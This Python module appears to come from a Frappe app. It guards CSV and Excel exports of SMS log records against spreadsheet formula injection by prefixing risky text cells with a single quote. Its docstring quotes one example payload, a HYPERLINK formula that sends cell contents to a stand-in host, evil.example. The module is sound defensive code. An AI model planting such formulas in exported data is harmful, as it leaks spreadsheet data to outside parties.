"""Exports of what a caller sent are text in a spreadsheet, never a formula.

A message, a sender name or a gateway's answer that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return) is a formula to Excel and LibreOffice: `=HYPERLINK("http://evil.example/?"&A1,"Open")`
planted in a message would be a live link in a System Manager's export. While Frappe's Report Builder
or query-report export runs for one of the DocTypes of `sms_log_app.verbatim` (or a report on one of
them), each such text cell is written with a single quote before it, as OWASP advises; numbers, dates
and every other export stay as Frappe writes them. What is stored does not change.

Frappe builds the rows and writes the file in one function, `_export_query`, with no hook between:
the two writers it calls, `get_csv_bytes` and `make_xlsx`, are wrapped once per process, and act only
inside `cells_as_text` (the export overrides in `sms_log_app.overrides.desk`, and `before_job` for
exports Frappe runs in the background).
"""

import contextlib
import functools
from io import BytesIO

import frappe
import openpyxl
from frappe.desk import utils as desk_utils
from frappe.utils import xlsxutils

from sms_log_app.verbatim import VERBATIM_DOCTYPES

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# the jobs that run Frappe's two exports in the background (Export in Background)
BACKGROUND_EXPORTS = (
	"frappe.desk.reportview.run_report_view_export_job",
	"frappe.desk.query_report.run_export_query_job",
)
_FLAG = "sms_log_cells_as_text"


def as_text_cell(value):
	"""`value` with a single quote before it when it is text a spreadsheet would read as a formula;
	numbers and anything else unchanged."""
	if isinstance(value, str) and value.startswith(FORMULA_STARTS):
		return "'" + value
	return value


def exports_verbatim(doctype: str | None = None, report: str | None = None) -> bool:
	"""Whether an export of `doctype` (Report Builder) or of the query report `report` holds what a
	caller sent."""
	if report:
		doctype = frappe.get_cached_value("Report", report, "ref_doctype")
	return doctype in VERBATIM_DOCTYPES


@contextlib.contextmanager
def cells_as_text(applies: bool):
	"""Within the block, Frappe's export writers write text cells as `as_text_cell` does, if `applies`."""
	install()
	before = frappe.flags.get(_FLAG)
	frappe.flags[_FLAG] = before or applies
	try:
		yield
	finally:
		frappe.flags[_FLAG] = before


def before_job(method: str, kwargs: dict):
	"""Frappe's exports in the background (`export_in_background`) run as jobs: the same rule there."""
	if method in BACKGROUND_EXPORTS:
		form_params = frappe._dict(kwargs.get("form_params") or {})
		install()
		frappe.flags[_FLAG] = exports_verbatim(form_params.doctype, form_params.report_name)


def install():
	"""Wrap Frappe's CSV and Excel writers; calling it again changes nothing."""
	for module, name, rewrite in (
		(desk_utils, "get_csv_bytes", _csv_as_text),
		(xlsxutils, "make_xlsx", _xlsx_as_text),
	):
		original = getattr(module, name)
		if not getattr(original, "_sms_log_original", None):
			setattr(module, name, _wrap(original, rewrite))


def _wrap(original, rewrite):
	@functools.wraps(original)
	def wrapper(*args, **kwargs):
		return rewrite(original, *args, **kwargs)

	wrapper._sms_log_original = original
	return wrapper


def _csv_as_text(original, data, *args, **kwargs):
	if frappe.flags.get(_FLAG):
		data = [[as_text_cell(value) for value in row] for row in data]
	return original(data, *args, **kwargs)


def _xlsx_as_text(original, *args, **kwargs):
	"""`make_xlsx` turns HTML into text before it writes a cell, and openpyxl stores text that starts
	with `=` as a formula: the cells are read back from the workbook it wrote."""
	xlsx = original(*args, **kwargs)
	if not frappe.flags.get(_FLAG):
		return xlsx
	workbook = openpyxl.load_workbook(BytesIO(xlsx.getvalue()))
	for sheet in workbook.worksheets:
		for row in sheet.iter_rows():
			for cell in row:
				if cell.data_type in ("s", "f") and cell.value != (text := as_text_cell(cell.value)):
					cell.value = text
	as_text = BytesIO()
	workbook.save(as_text)
	return as_text
